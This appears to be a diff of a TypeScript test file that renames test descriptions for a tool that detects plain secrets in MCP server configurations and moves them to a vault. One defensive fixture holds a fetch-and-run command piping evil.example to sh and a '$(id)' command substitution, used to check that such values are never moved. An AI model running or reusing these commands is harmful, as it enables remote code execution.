@@ -17,7 +17,7 @@ const spec = (transport: ServerTransport): ServerSpec => ({ id: 'server', transp
 const started = (env: Record<string, string>, args: string[] = []): ServerTransport => ({ type: 'stdio', command: 'x', args, env })
 const reached = (url: string, headers: Record<string, string> = {}): ServerTransport => ({ type: 'http', url, headers })
 
-describe('looks like a secret', () => {
+describe('values that look like a secret', () => {
   test.each<[string, ServerTransport, string[]]>([
     ['by the name of a variable', started({ DB_PASSWORD: 'hunter22', API_KEY: 'abcd' }), ['env.DB_PASSWORD name', 'env.API_KEY name']],
     ['by a known form', started({ WHATEVER: TOKEN }), ['env.WHATEVER form']],
@@ -33,7 +33,7 @@ describe('looks like a secret', () => {
     ['in an address among the arguments', started({}, ['postgres://ada:hunter22@db/x']), ['args[0] form']],
     ['in a URL', reached('https://ada:hunter22@x.example/?api_key=hunter23&page=2'), ['url name', 'url name']],
     ['in the address of a database', started({ DATABASE_URL: 'postgres://ada:hunter22@db/x' }), ['env.DATABASE_URL form']],
-  ])('%s', (_how, transport, found) => {
+  ])('a secret is recognised %s', (_how, transport, found) => {
     expect(plainSecrets({ transport }).map(({ where, because }) => `${where} ${because}`)).toEqual(found)
   })
 
@@ -50,12 +50,12 @@ describe('looks like a secret', () => {
     ],
     ['an identifier', started({ PROJECT: 'a-project-with-a-long-name-2025' })],
     ['a plain URL', reached('https://x.example/mcp?page=2&lang=en')],
-  ])('%s does not', (_what, transport) => {
+  ])('this does not look like a secret: %s', (_what, transport) => {
     expect(plainSecrets({ transport })).toEqual([])
   })
 })
 
-describe('goes to the vault', () => {
+describe('values that move to the vault', () => {
   const movedOf = (transport: ServerTransport): string[] =>
     plainSecrets({ transport }).flatMap(({ where, isMovable }) => (isMovable ? [where] : []))
   const run = (command: string, args: string[], env: Record<string, string> = {}): ServerTransport => ({
@@ -74,7 +74,7 @@ describe('goes to the vault', () => {
       reached(`https://x.example/?key=hunter22`, { Authorization: `Bearer ${RANDOM}` }),
       ['url', 'headers.Authorization'],
     ],
-  ])('%s', (_what, transport, where) => {
+  ])('a secret moves to the vault: %s', (_what, transport, where) => {
     expect(movedOf(transport)).toEqual(where)
   })
 
@@ -123,7 +123,7 @@ describe('goes to the vault', () => {
     ['what only looks like a password, and is a path', reached('https://evil.example:443\\@good.example/mcp')],
     ['a part of the host', reached(`https://x&token=${TOKEN}.good.example/`)],
     ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
-  ])('goes to the vault never %s', async (_what, transport) => {
+  ])('a value never moves to the vault: %s', async (_what, transport) => {
     expect(movedOf(transport)).toEqual([])
     const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
     expect((await moveSecrets(spec(transport), vault)).transport).toEqual(transport)
@@ -131,7 +131,7 @@ describe('goes to the vault', () => {
     expect(withoutPlainSecrets(spec(transport)).transport).toEqual(transport)
   })
 
-  test('goes to the vault is shown by its length until then, unless somebody else may have written the file', () => {
+  test('a plain secret is shown by its length, but in full if others may have written the file', () => {
     const transport = run('mail', ['send', '--token', 'hunter22', TOKEN])
     expect(withoutPlainSecrets(spec(transport)).transport).toMatchObject({ args: ['send', '--token', '[8 characters hidden]', TOKEN] })
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
@@ -141,7 +141,7 @@ describe('goes to the vault', () => {
   test.each<[string, ServerTransport]>([
     ['a process', run('mail', ['send', '--token', 'hunter22'], { API_KEY: 'hunter22' })],
     ['an address', reached('https://x.example/?key=hunter22', { Authorization: `Bearer ${RANDOM}` })],
-  ])('goes to the vault never from the file of a project: %s', async (_what, transport) => {
+  ])('a value of a project file never moves to the vault: %s', async (_what, transport) => {
     const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
     const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
     expect((await moveSecrets({ ...spec(transport), provenance }, vault)).transport).toEqual(transport)
@@ -188,7 +188,7 @@ describe('moving', () => {
     expect(await vault.get('server/API_KEY')).toBe('first-value')
   })
 
-  test('moving keeps a value as it is, also one that looks like a placeholder', async () => {
+  test('moving leaves a value unchanged, even if it looks like a placeholder', async () => {
     const vault = await vaultIn(newFolder())
     const moved = await moveSecrets(spec(reached('https://x.example', { 'X-Api-Key': '${$}{env:HOME}' })), vault)
     expect(JSON.stringify(moved.transport)).toContain('${secret:server/X-Api-Key}')
